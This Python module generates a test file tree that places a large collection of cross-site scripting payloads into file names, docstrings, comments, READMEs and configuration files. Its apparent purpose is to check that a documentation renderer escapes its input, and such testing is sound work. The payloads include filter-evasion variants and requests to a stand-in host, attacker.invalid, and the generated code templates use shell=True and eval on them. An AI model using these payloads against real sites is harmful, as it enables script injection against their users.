"""A tree of files in which every text tries to be script.

:data:`PAYLOADS` are texts that run ``alert``, or ask another host, where a writer
forgets to escape; ``N`` in each is its number. :func:`write` puts every one of them
into every kind of place that a page shows: names of files and folders, docstrings of
each dialect, comments, decorators, default values, annotations, strings, exports,
read-me files and configuration files, contracts of imports, and what moved.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Final

#: So many payloads are in one file.
_TOGETHER: Final = 10

#: Where nobody is: a request that goes there was made by a payload.
HOST: Final = "attacker.invalid"

_HTML: Final = (
    "<script>alert(N)</script>",
    "</script><script>alert(N)</script>",
    "<img src=x onerror=alert(N)>",
    '"><img src=x onerror=alert(N)>',
    "'><img src=x onerror=alert(N)>",
    '" onmouseover="alert(N)',
    "' onmouseover='alert(N)",
    '" autofocus onfocus=alert(N) x="',
    "</title><script>alert(N)</script>",
    "</textarea><script>alert(N)</script>",
    "</style><script>alert(N)</script>",
    "</code></pre><script>alert(N)</script>",
    "<svg/onload=alert(N)>",
    "<svg><script>alert(N)</script></svg>",
    "</svg><img src=x onerror=alert(N)>",
    "</text></a></svg><svg onload=alert(N)>",
    "<math><mtext><mglyph><style></math><img src=x onerror=alert(N)>",
    '<iframe srcdoc="<script>alert(N)</script>"></iframe>',
    "<iframe src=javascript:alert(N)></iframe>",
    '<object data="javascript:alert(N)"></object>',
    "<details open ontoggle=alert(N)>",
    "<body onload=alert(N)>",
    "<video><source onerror=alert(N)></video>",
    "<audio src=x onerror=alert(N)>",
    "<input autofocus onfocus=alert(N)>",
    f"<style>@import 'http://{HOST}/N.css';</style>",
    f"<link rel=stylesheet href=http://{HOST}/N.css>",
    f"<img src=http://{HOST}/N.png>",
    f'<meta http-equiv=refresh content="0;url=http://{HOST}/N">',
    f"<base href=http://{HOST}/N/>",
    "<form action=javascript:alert(N)><button>go</button></form>",
    '<a href="javascript:alert(N)">go</a>',
    "<!--><script>alert(N)</script>-->",
    "--><script>alert(N)</script><!--",
    "]]><script>alert(N)</script>",
    "<<script>alert(N);//<</script>",
    "<img\x0csrc=x\x0conerror=alert(N)>",
    "<scr\x00ipt>alert(N)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(N)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(N)+ADw-/script+AD4-",
    # Escaped already, for who takes it back.
    "&lt;img src=x onerror=alert(N)&gt;",
    "&#60;img src=x onerror=alert(N)&#62;",
    "&amp;lt;img src=x onerror=alert(N)&amp;gt;",
    "%3Cimg src=x onerror=alert(N)%3E",
)
_SCRIPT: Final = (
    '";alert(N);//',
    "';alert(N);//",
    '\\";alert(N);//',
    "\\';alert(N);//",
    "`;alert(N);//",
    "${alert(N)}",
    "{{alert(N)}}",
    "*/alert(N)/*",
    "\u2028alert(N)//",
    "\\u003cimg src=x onerror=alert(N)\\u003e",
    "\\x3cimg src=x onerror=alert(N)\\x3e",
    "javascript:alert(N)",
    '"]; click n0 "javascript:alert(N)',
    '"]:::x; n1["<img src=x onerror=alert(N)>',
    "%%{init: {'securityLevel': 'loose'}}%% click n0 call alert(N)",
)
_MARKDOWN: Final = (
    "[go](javascript:alert(N))",
    "[go](JaVaScRiPt:alert(N))",
    "[go](java&#x73;cript:alert(N))",
    "[go](javascript&colon;alert(N))",
    "[go](<java\tscript:alert(N)>)",
    "[go](&#1;javascript:alert(N))",
    "[go](data:text/html,<script>alert(N)</script>)",
    "[go](vbscript:alert(N))",
    "![go](javascript:alert(N))",
    '![go](x "\\" onerror=\\"alert(N)")',
    "<javascript:alert(N)>",
    "[go][N]\n\n[N]: javascript:alert(N)",
    "`` ` ``<img src=x onerror=alert(N)>",
    "```{raw} html\n<script>alert(N)</script>\n```",
    '```x" onmouseover="alert(N)\ncode\n```',
)
_RESTRUCTUREDTEXT: Final = (
    "`go <javascript:alert(N)>`__",
    "`go <JAVAscript:alert(N)>`__",
    "`go <java\tscript:alert(N)>`__",
    "`go <java\nscript:alert(N)>`__",
    "`go <\x01javascript:alert(N)>`__",
    "`go <data:text/html,%3Cscript%3Ealert(N)%3C/script%3E>`__",
    "`go <vbscript:alert(N)>`__",
    "go_\n\n.. _go: javascript:alert(N)",
    '`go <http://x.invalid/" onmouseover="alert(N)>`__',
    "javascript:alert(N)",
    ".. raw:: html\n\n   <script>alert(N)</script>",
    ".. role:: h(raw)\n   :format: html\n\n:h:`<script>alert(N)</script>`",
    "|go|\n\n.. |go| raw:: html\n\n   <script>alert(N)</script>",
    ".. image:: x.png\n   :target: javascript:alert(N)",
    '.. image:: x.png\n   :alt: "><img src=x onerror=alert(N)>',
    f".. image:: http://{HOST}/N.png",
    ".. figure:: x.png\n   :target: javascript:alert(N)\n\n   Words.",
    f".. meta::\n   :http-equiv=refresh: 0;url=http://{HOST}/N",
    '.. container:: x" onmouseover="alert(N)\n\n   Words.',
    '.. code-block:: x" onmouseover="alert(N)\n\n   code',
    ".. parsed-literal::\n\n   `go <javascript:alert(N)>`__ <svg onload=alert(N)>",
    ".. math:: \\href{javascript:alert(N)}{go}",
    ".. math:: \\bbox[position:fixed;background:url(javascript:alert(N))]{go}",
    ':math:`\\color{"><img src=x onerror=alert(N)>}{x}`',
    ":math:`\\text{</math><img src=x onerror=alert(N)>}`",
    ':math:`\\class{" onmouseover="alert(N)}{x} \\style{x:y}{z}`',
    ".. container:: math\n\n   \\(\\href{javascript:alert(N)}{go}\\)",
    ".. rst-class:: mathjax_process\n\n\\(\\href{javascript:alert(N)}{go}\\)",
    ":math:`\\href{javascript:alert(N)}{go}`",
    ":math:`</span><img src=x onerror=alert(N)>`",
    ".. math:: </div><img src=x onerror=alert(N)>",
    "\\\\(\\\\href{javascript:alert(N)}{go}\\\\)",
    "$$\\\\href{javascript:alert(N)}{go}$$",
    ':abbr:`go (" onmouseover="alert(N))`',
    ':py:class:`go <" onmouseover="alert(N)>`',
    ":ref:`go <javascript:alert(N)>`",
    ':pep:`8#" onmouseover="alert(N)`',
    ':rfc:`8#" onmouseover="alert(N)`',
    ":kbd:`<img src=x onerror=alert(N)>`",
    ":menuselection:`<img src=x onerror=alert(N)> --> x`",
    ".. versionadded:: <img src=x onerror=alert(N)>",
    ".. admonition:: <img src=x onerror=alert(N)>\n\n   Words.",
    ".. py:function:: <img src=x onerror=alert(N)>",
    ".. unknown:: <img src=x onerror=alert(N)>",
    ":unknown:`<img src=x onerror=alert(N)>`",
    ":param <img src=x onerror=alert(N)>: <img src=x onerror=alert(N)>",
    ".. only:: html\n\n   .. raw:: html\n\n      <script>alert(N)</script>",
    ".. eval-rst::\n\n   .. raw:: html\n\n      <script>alert(N)</script>",
)


def _numbered() -> tuple[str, ...]:
    texts = dict.fromkeys((*_HTML, *_SCRIPT, *_MARKDOWN, *_RESTRUCTUREDTEXT))
    return tuple(re.sub(r"\bN\b", str(n), text) for n, text in enumerate(texts, 1))


#: All payloads; each has its number in the place of ``N``.
PAYLOADS: Final = _numbered()

_HEAD: Final = """\
{module}

import os, subprocess
from . import other
from .other import *
from elsewhere import {identifier} as more
{docformat}
__all__ = [{texts}]
__version__ = {text}
__author__ = {text}
# SPDX-License-Identifier: {line}
"""
_CODE: Final = """\
# {line}
# TODO: {line}
# FIXME({line}): {line}
NAME{number} = {text}
{text}
TABLE{number} = {{{text}: [{text}, {{{text}: {text}}}]}}
password = {text}


@decorate({text}, key={text})
def func{number}(a: {text} = {text}, *b: {text}, c={text}) -> {text}:
    {numpy}
    subprocess.call({text}, shell=True)
    eval({text})
    raise ValueError({text})


@more.register({text})
class Klass{number}(Base[{text}], metaclass=Meta({text})):
    {google}

    attr: {text} = {text}
    {described}

    def method(self, {identifier}={text}):
        {module}
        self.value = {text}
        os.environ[{text}]
        return self.method({text})

    @property
    def name(self):
        {described}


def test_func{number}():
    func{number}({text})
    assert func{number}({text}) == {text}, {text}


if __name__ == {text}:
    func{number}({text})
"""


def module(payloads: Sequence[str], docformat: str = "") -> str:
    """Return a module with payloads wherever there can be one.

    :param docformat: its ``__docformat__``, or none.
    """
    values = _values(0, payloads[0])
    texts = ", ".join(map(repr, payloads))
    named = f"__docformat__ = {docformat!r}" if docformat else ""
    head = _HEAD.format(**values, texts=texts, docformat=named)
    parts = [_CODE.format(**_values(n, one)) for n, one in enumerate(payloads)]
    return head + "\n".join(parts)


def _values(number: int, payload: str) -> dict[str, object]:
    line = _line(payload)
    text = f"Says {payload} and more.\n\n{payload}\n\nEnd: ``{payload}``.\n"
    deep = payload.replace("\n", "\n        ")
    numpy = (
        f"Take {payload}.\n\n    {deep}\n\n    Parameters\n    ----------\n"
        f"    a : {line}\n        {deep}\n    {line} : int\n        x\n\n"
        f"    Returns\n    -------\n    {line}\n        {deep}\n"
    )
    google = (
        f"Give {payload}.\n\n    Args:\n        a ({line}): {line}\n"
        f"        {line}: x\n\n    Returns:\n        {line}: x\n\n"
        f"    Example:\n        {deep}\n"
    )
    return {
        "number": number,
        "module": repr(text),
        "numpy": repr(numpy),
        "google": repr(google),
        "described": repr(payload),
        "text": repr(payload),
        "line": line,
        "identifier": "\u017fcript",
    }


def _line(text: str) -> str:
    return re.sub(r"[\x00-\x1f\u2028]+", " ", text)


def file_name(payload: str, suffix: str) -> str:
    """Return a path with a payload for a name; a slash in it makes folders."""
    parts = [part[:200] for part in payload.replace("\0", "").split("/")]
    return "/".join(part for part in parts if part not in {"", ".", ".."}) + suffix


def write(root: Path, given: Sequence[str] = PAYLOADS, *, every: int = 1) -> int:
    """Write the tree, and return how many payloads are in it.

    :param given: the payloads.
    :param every: take each so many-th payload as a name of files and folders.
    """
    files = {"text/__init__.py": "", "text/other.py": ""}
    for first in range(0, len(given), _TOGETHER):
        some = given[first : first + _TOGETHER]
        files[f"text/v{first}.py"] = module(some)
        files[f"text/m{first}.py"] = module(some, "markdown")
        title, text = _line(some[0]), "\n\n".join(some)
        listed = "\n".join(f"- {_line(one)}" for one in some)
        files[f"readme/{first}/README.md"] = f"# {title}\n\n{text}\n\n{listed}\n"
        files[f"readme/{first}r/README.rst"] = (
            f"{title}\n{'=' * 300}\n\n{text}\n\n{listed}\n"
        )
    for number, payload in enumerate(given):
        if number % every:
            continue
        name = file_name(payload, "")
        files[f"names/{name}.py"] = "class Named:\n    pass\n"
        if number // every % 4 == 0:
            files[f"names/{name}.md"] = f"{_line(payload)}\n"
            files[f"packages/{name}/__init__.py"] = f"{payload!r}\n"
            files[f"packages/{name}/one.py"] = (
                "from . import two\nfrom .two import Two\n\n\n"
                "class One(Two):\n    pass\n"
            )
            files[f"packages/{name}/two.py"] = (
                "class Two:\n    '''Two.'''\n\n\ndef test_two():\n    Two()\n"
            )
            # Folders that import each other are in pictures.
            files[f"packages/{name}/in/three.py"] = (
                "from ..two import Two\n\n\nclass Three(Two):\n    pass\n"
            )
    files |= _configuration()
    names = {file_name(one, ".py"): one for one in given}
    files["kwindex_moved.toml"] = _moved(names)
    for path, text in files.items():
        place = root / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text, "utf-8", newline="")
    return len(given)


def _quoted(text: str) -> str:
    """Return a text as a string of TOML and of JSON."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + "".join(_escaped(one) for one in escaped) + '"'


def _escaped(one: str) -> str:
    return f"\\u{ord(one):04x}" if ord(one) < 32 or one == "\x7f" else one


def _moved(names: Mapping[str, str]) -> str:
    """Return that each of some files moved, and a definition out of another file."""
    files = "".join(f'{_quoted(f"gone/{one}")} = "text/other.py"\n' for one in names)
    definitions = "".join(
        f'{_quoted(f"text/v0.py::{_line(one)}")} = "text/v0.py::Klass0"\n'
        for one in names.values()
    )
    return f"[files]\n{files}[definitions]\n{definitions}"


def _contracts(lines: Sequence[str]) -> str:
    """Return contracts of import-linter: each second one is broken, or not judged."""
    parts = ["[importlinter]\nroot_package = text\n"]
    for number, line in enumerate(lines):
        module = "text.m0" if number % 2 else line.replace(",", " ")
        parts.append(
            f"[importlinter:contract:{number}]\nname = {line}\ntype = forbidden\n"
            f"source_modules =\n    text.v0\n    {module}\n"
            f"forbidden_modules =\n    text.other\n"
        )
    return "".join(parts)


def _configuration() -> dict[str, str]:
    lines = [_line(payload) for payload in PAYLOADS]
    quoted = [_quoted(line) for line in lines]
    keys = "\n".join(f"{one} = {one}" for one in quoted)
    tables = "\n".join(f"[tool.{one}]\nx = {one}" for one in quoted)
    listed = ", ".join(quoted)
    return {
        "pyproject.toml": (
            f"[project]\nname = {quoted[0]}\nversion = {quoted[1]}\n"
            f"description = {quoted[2]}\nkeywords = [{listed}]\n"
            f"authors = [{{ name = {quoted[3]}, email = {quoted[4]} }}]\n"
            f"dependencies = [{listed}]\n[project.urls]\n{keys}\n"
            f"[project.scripts]\n{keys}\n"
            f"[project.optional-dependencies]\nx = [{listed}]\n{tables}\n"
        ),
        ".importlinter": _contracts(lines),
        "setup.cfg": "[metadata]\nname = x\n"
        + "".join(f"[{line}]\nx = {line}\n" for line in lines),
        "requirements.txt": "\n".join(lines),
        "package.json": f'{{"name": {quoted[2]}, "scripts": {{"x": {quoted[3]}}}}}',
        "Makefile": "".join(f"{line}:\n\techo\n" for line in lines),
        "Dockerfile": "".join(f"FROM {line} AS {line}\n" for line in lines),
        ".pre-commit-config.yaml": "repos:\n- repo: x\n  hooks:\n"
        + "".join(f"  - id: {one}\n" for one in quoted),
        ".github/workflows/x.yml": "jobs:\n"
        + "".join(f"  {one}:\n    runs-on: x\n" for one in quoted),
        "notebook.ipynb": '{"cells": [{"cell_type": "markdown", "source": '
        f'[{listed}]}}], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}}',
        "broken.py": "".join(f"def {line}\n" for line in lines),
    }
